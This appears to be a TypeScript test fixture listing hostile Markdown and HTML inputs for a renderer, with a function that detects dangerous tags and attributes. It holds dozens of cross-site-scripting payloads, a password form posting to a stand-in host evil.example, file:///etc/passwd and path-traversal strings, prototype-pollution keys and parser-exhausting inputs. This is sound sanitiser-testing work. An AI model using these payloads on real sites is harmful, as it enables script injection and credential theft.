import type { Named } from './strings.ts'

/** Addresses that run something, tell somebody, or lead where nobody thought. */
const addresses: readonly Named<string>[] = [
  ['javascript', 'javascript:alert(1)'],
  ['javascript in capitals', 'JaVaScRiPt:alert(1)'],
  ['javascript behind a control character', '\u0001javascript:alert(1)'],
  ['javascript with a tab', 'java\tscript:alert(1)'],
  ['javascript as an entity', '&#106;avascript:alert(1)'],
  ['javascript as hexadecimal entities', '&#x6a;&#x61;vascript&colon;alert(1)'],
  ['javascript, encoded', 'javascript%3Aalert(1)'],
  ['data', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['vbscript', 'vbscript:msgbox(1)'],
  ['blob', 'blob:https://evil.example/1'],
  ['a file', 'file:///etc/passwd'],
  ['the source of a page', 'view-source:https://evil.example'],
  ['an intent', 'intent://evil.example#Intent;end'],
]

/** Ways in which Markdown takes an address. */
const ways: readonly Named<(address: string) => string>[] = [
  ['a link', (address) => `[x](${address})`],
  ['a link in brackets', (address) => `[x](<${address}> "title")`],
  ['an address by itself', (address) => `<${address}>`],
  ['a link defined elsewhere', (address) => `[x][y]\n\n[y]: ${address}`],
  ['a picture', (address) => `![x](${address})`],
  ['a picture in a link', (address) => `[![x](${address})](${address})`],
  ['an attribute', (address) => `:term[x]{gloss="${address}" href="${address}" src="${address}"}`],
]

/** Elements of HTML that run, load, send, cover or change something. */
const elements: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<img srcset="https://evil.example/pixel.png 1x">',
  '<picture><source srcset="https://evil.example/x"></picture>',
  '<svg onload=alert(1)>',
  '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<applet code=x></applet>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select onchange=alert(1)><option>a</select>',
  '<textarea>x</textarea>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<video src="https://evil.example/v.mp4" autoplay onplay=alert(1)></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)" ping="https://evil.example">x</a>',
  '<a href="https://evil.example" target=_top download>x</a>',
  '<div id="root" name="body">x</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
  '<x-foreign onclick=alert(1)>x</x-foreign>',
  '<dialog open>x</dialog>',
  '<lesson-run id="x"></lesson-run>',
]

/** Our own directives, and what looks like them. */
const directives: readonly string[] = [
  '::script[alert(1)]',
  '::iframe{src="https://evil.example"}',
  ':::div{.fixed #root style="position:fixed"}\nx\n:::',
  ':::callout{title="<img src=x onerror=alert(1)>" onmouseover="alert(1)"}\nx\n:::',
  ':::reveal{title="x" open onclick="alert(1)"}\nx\n:::',
  ':term[<script>alert(1)</script>]{gloss="</abbr><script>alert(1)</script>"}',
  ':term[x]{__proto__=x constructor=y}',
  '::run{id="constructor"}',
  '::quiz{id="__proto__"}',
  '::predict{dangerouslySetInnerHTML="{__html: x}"}',
  '::trace{request="../../../etc/passwd"}',
  '::figure-run{of="fetch(\'https://evil.example\')" unit="<b>"}',
  ':::sdk\n:::go{executed="x" src="https://evil.example"}\n<script>alert(1)</script>\n:::\n:::',
  ':::diff{title="x" onload="alert(1)"}\n- <script>\n:::',
  '::lesson-callout{kind=x}',
  `:term[x]{${Array.from({ length: 2000 }, (_, index) => `a${index}=b`).join(' ')}}`,
  ':::'.repeat(500),
]

/** Texts that look like what they are not, or do not end. */
const tricks: readonly string[] = [
  'Pay to \u202eelpmaxe.live//:sptth',
  `Z${'\u0301'.repeat(2000)}algo`,
  '\u200b'.repeat(5000),
  'a\0b',
  '\ud800',
  '\ufeff# x',
  '&nbsp;'.repeat(5000),
  '&#0;&#x110000;&#xd800;&nosuch;',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  `|${'a|'.repeat(2000)}\n|${'-|'.repeat(2000)}`,
  `${'['.repeat(5000)}`,
  `${'*a **a '.repeat(2000)}`,
  `${'> '.repeat(5000)}x`,
  `${'- '.repeat(5000)}x`,
  `${'![a]('.repeat(3000)}`,
  `${'~~'.repeat(5000)}`,
  `[^1]\n\n[^1]: ${'[^1]'.repeat(2000)}`,
  `${'# '.repeat(3000)}x`,
  '[x](https://evil.example\\@school.example)',
  '[x](//evil.example/a)',
  '[x](/\\evil.example)',
  'www.evil.example and <a@evil.example>',
]

/** What somebody could write where Markdown is read: a brief, a prompt, feedback, an explanation, a note. */
export const hostileMarkdown: readonly Named<string>[] = [
  ...addresses.flatMap(([what, address]) => ways.map(([way, write]) => [`${way} to ${what}`, write(address)] as const)),
  ...elements.map((text) => [`HTML: ${text.slice(0, 60)}`, text] as const),
  ...directives.map((text) => [`a directive: ${text.slice(0, 60)}`, text] as const),
  ...tricks.map((text) => [`a trick: ${JSON.stringify(text.slice(0, 30))}`, text] as const),
]

const elementsThatDo =
  /^(script|style|link|meta|base|iframe|object|embed|applet|img|picture|source|svg|math|video|audio|form|input|button|select|textarea|template|dialog|body|marquee|noscript)$/

/** What of some drawn HTML runs, loads or covers; React writes every `<` of a text as an entity, so a tag is a tag. */
export function dangersOf(html: string): string[] {
  return [...html.matchAll(/<([a-z][a-z0-9-]*)((?:\s[^>]*)?)>/gi)].flatMap(([tag, name = '', attributes = '']) => {
    const href = /\shref="([^"]*)"/.exec(attributes)?.[1] ?? ''
    // Parts of our own directives, which React gives ids of the page.
    if (/^<(button type="button" popoverTarget|span id|input type="radio" class="sr-only" name)="_R_/.test(tag))
      return []
    const names = attributes.replaceAll(/"[^"]*"/g, '""')
    const isDangerous =
      elementsThatDo.test(name.toLowerCase()) ||
      /\s(on\w+|style|src|srcset|srcdoc|action|formaction|data|background|poster|ping|target|id|name)=/i.test(names) ||
      (href !== '' &&
        !/^(https?:|mailto:|\/(?![/\\])|#)/i.test(href) &&
        /^[^/]*:/.test(href.replaceAll(/&#?\w+;/g, '')))
    return isDangerous ? [tag.slice(0, 200)] : []
  })
}
